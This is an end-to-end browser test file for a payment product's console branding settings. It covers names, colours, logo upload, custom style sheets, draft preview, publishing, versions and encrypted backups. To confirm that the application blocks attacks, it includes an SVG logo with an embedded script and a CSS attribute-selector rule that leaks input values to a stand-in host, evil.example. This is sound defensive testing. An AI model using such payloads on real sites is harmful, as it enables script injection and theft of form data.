import { readFile } from 'node:fs/promises';
import type { Locator, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { expectAccessible } from './support/axe.ts';
import { expectNoSidewaysScroll, narrow, picture, wide } from './support/browser.ts';
import { byItself, expectWithin } from './support/in-time.ts';
import { useTwoBrowsers } from './support/two-browsers.ts';

const path = '/mission-control/customer-environment';
const logo = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 24"><script>alert(1)</script><rect width="60" height="24" fill="#7a1fa2"/></svg>`;

describe('the customer environment', () => {
  let page: Page;
  let other: Page;
  const complaints = useTwoBrowsers((first, second) => {
    page = first;
    other = second;
  });

  const dialog = (name: string): Locator => page.getByRole('dialog', { name });
  const brand = (at: Page, name: string): Locator => at.getByRole('banner').getByText(name, { exact: true });
  const primaryOf = (at: Page) =>
    at.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--mantine-primary-color-filled'));

  /** Closing goes back in the history, which would undo what is opened meanwhile. */
  const untilClosed = () => page.getByRole('dialog').first().waitFor({ state: 'detached' });

  async function save(name: string): Promise<void> {
    await dialog(name).getByRole('button', { name: 'Save' }).press('Enter');
    await dialog(name).waitFor({ state: 'detached' });
  }

  it('gives the console another name, by keyboard, and every other open console', async () => {
    await other.goto('/mission-control/version');
    await page.goto(path);
    await page.getByRole('link', { name: 'Open Business name' }).press('Enter');
    await dialog('Business name').getByRole('textbox', { name: /Value/ }).fill('Lantern Pay');
    await page.keyboard.press('Enter');
    await page.getByText('Variable saved.').waitFor();
    await brand(other, 'Lantern Pay').waitFor(byItself);
    await brand(page, 'Lantern Pay').waitFor(byItself);
    await untilClosed();
  });

  it('gives it other colours, but none that cannot be read', async () => {
    await page.goto(`${path}?edit=GenericColorPalette`);
    const colors = dialog('Colours');
    await colors.getByLabel('Brand colour', { exact: true }).first().fill('#7a1fa2');
    await colors.getByLabel('Secondary text', { exact: true }).first().fill('#cccccc');
    await colors.getByText(/^“Secondary text \(Light\)” on “Panel background \(Light\)”: contrast 1,6:1/).waitFor();
    await expectAccessible(page, 'colours with a weak pair');
    await picture(page, 'colours with a weak pair');
    await colors.getByLabel('Secondary text', { exact: true }).first().fill('#555555');
    await save('Colours');
    await expect.poll(() => primaryOf(other)).toContain('#7a1fa2');
    await other.goto(path);
    await other.getByRole('link', { name: 'Open Business name' }).waitFor();
    await expectAccessible(other, 'the console in other colours');
    await other.emulateMedia({ colorScheme: 'dark' });
    await expectAccessible(other, 'the console in other colours, dark');
    await other.emulateMedia({ colorScheme: 'light' });
  });

  it('takes a logo, in which nothing can run', async () => {
    await page.goto(`${path}?edit=AdminPortalLogoImage`);
    const file = { name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(logo) };
    await page.locator('input[type="file"]').setInputFiles(file);
    await save('Logo of the console');
    const image = other.getByRole('banner').locator('img');
    await image.waitFor(byItself);
    const answer = await other.request.get((await image.getAttribute('src')) ?? '');
    expect(await answer.text()).not.toContain('script');
    expect(answer.headers()['content-security-policy']).toContain('sandbox');
  });

  it('refuses a style sheet that could leak, naming line and column', async () => {
    await page.goto(`${path}?edit=DebtorPortalStyleSheet`);
    const sheet = dialog('Style sheet of the debtor portal');
    const editor = sheet.getByRole('textbox', { name: 'Value' });
    await editor.fill('.pay { border-radius: 21px }\ninput[value^=a] { background: url(//evil.example/a) }');
    await sheet.getByRole('button', { name: 'Save' }).press('Enter');
    await sheet.getByText('Line 2, column 31: URLs are not allowed: url(//evil.example/a)').waitFor();
    await picture(page, 'a refused style sheet');
    await editor.fill('.pay { border-radius: 21px }');
    await save('Style sheet of the debtor portal');
  });

  it('has the focus back in the dialog when Tab leaves the frame of the preview, so that Escape closes it', async () => {
    await page.goto(`${path}?preview=published`);
    await page.frameLocator('iframe').getByRole('button', { name: /^Pay/ }).focus();
    const isInFrame = () => page.evaluate(() => document.activeElement?.tagName === 'IFRAME');
    for (let presses = 0; presses < 10 && (await isInFrame()); presses++) await page.keyboard.press('Tab');
    await page.keyboard.press('Escape');
    await dialog('Preview').waitFor({ state: 'detached' });
  });

  it('shows a draft to nobody but in the preview, which loads nothing from elsewhere', async () => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto(`${path}?stage=draft&edit=BusinessName`);
    await dialog('Business name').getByRole('textbox', { name: /Value/ }).fill('Beacon Pay');
    await page.keyboard.press('Enter');
    await untilClosed();
    await page.getByText('The draft changes: Business name.').waitFor();
    await page.getByRole('button', { name: 'Preview' }).press('Enter');
    const frame = page.frameLocator('iframe');
    await frame.getByText('Beacon Pay').waitFor();
    const pay = frame.getByRole('button', { name: /^Pay/ });
    expect(await pay.evaluate((button) => getComputedStyle(button).borderRadius)).toBe('21px');
    expect(await pay.evaluate((button) => getComputedStyle(button).backgroundColor)).toBe('rgb(122, 31, 162)');
    await picture(page, 'preview of a draft');
    await dialog('Preview').getByText('E-mail').click();
    await dialog('Preview').getByRole('combobox', { name: 'Language' }).click();
    await page.getByRole('option', { name: 'Français' }).click();
    await frame.getByText('Votre prochain paiement').waitFor();
    await page.keyboard.press('Escape');
    await untilClosed();
    expect(
      asked.filter((address) => new URL(address).host !== new URL(page.url()).host && !address.startsWith('blob:')),
    ).toEqual([]);
    expect(await brand(other, 'Beacon Pay').count()).toBe(0);
  });

  it('publishes the draft for everybody, and goes back to an earlier version', async () => {
    await page.getByRole('button', { name: 'Publish the draft' }).press('Enter');
    await page
      .getByRole('dialog', { name: 'Publish 1 change?' })
      .getByRole('button', { name: 'Publish the draft' })
      .press('Enter');
    await brand(other, 'Beacon Pay').waitFor(byItself);
    await untilClosed();
    await page.getByRole('button', { name: 'Versions' }).press('Enter');
    await page.getByRole('button', { name: 'Actions for version 5' }).press('Enter');
    await page.getByRole('menuitem', { name: 'Go back to this version' }).press('Enter');
    await page.getByRole('button', { name: 'Go back to this version' }).press('Enter');
    await page.getByText('Version 5 is shown again.').waitFor();
    await brand(other, 'Lantern Pay').waitFor(byItself);
  });

  it('leaves as an encrypted file, and comes back with its key', async () => {
    await page.goto(path);
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export' }).press('Enter');
    const file = await download;
    expect(file.suggestedFilename()).toBe('backup.txt');
    const key = page.getByRole('textbox', { name: 'Secret key' });
    expect(await key.inputValue()).toMatch(/^•+$/);
    await key.hover();
    const secret = await key.inputValue();
    await page.getByRole('button', { name: 'I have saved the key' }).press('Enter');
    await untilClosed();
    const backup = await readFile(await file.path(), 'utf8');
    await page.getByRole('radio', { name: 'Default' }).focus();
    await page.keyboard.press('Space');
    await page.getByRole('button', { name: 'Import' }).press('Enter');
    const form = dialog('Import a backup');
    await form.getByRole('textbox', { name: /Secret key/ }).fill(secret);
    await form.getByRole('textbox', { name: /Encrypted value/ }).fill(`${backup.slice(0, -2)}AA`);
    await form.getByRole('button', { name: 'Save' }).press('Enter');
    await form.getByText(/"backup_refused"/).waitFor();
    await form.getByRole('textbox', { name: /Encrypted value/ }).fill(backup);
    await form.getByRole('button', { name: 'Save' }).press('Enter');
    await form.waitFor({ state: 'detached' });
    // The default is what the sign-in page wears.
    const look = await page.request.get('/api/customerenvironment/look');
    expect(((await look.json()) as { businessName: string }).businessName).toBe('Lantern Pay');
  });

  it('shows a change in another open console within 2 seconds', async () => {
    await page.goto(path);
    await expectWithin(2_000, async (attempt) => {
      await page.getByRole('link', { name: 'Open Business name' }).press('Enter');
      await dialog('Business name').getByRole('textbox', { name: /Value/ }).fill(`Harbour Pay ${attempt}`);
      await page.keyboard.press('Enter');
      await untilClosed();
      return brand(other, `Harbour Pay ${attempt}`);
    });
  });

  it('fits a narrow screen', async () => {
    await page.setViewportSize(narrow);
    for (const search of ['', '?edit=GenericFont', '?edit=GenericColorPalette', '?preview=published']) {
      await page.goto(path + search);
      await page.getByRole('heading').first().waitFor();
      await expectNoSidewaysScroll(page);
    }
    await page.setViewportSize(wide);
  });

  it('left no complaint in either browser', () => {
    expect(complaints).toEqual([[], []]);
  });
});
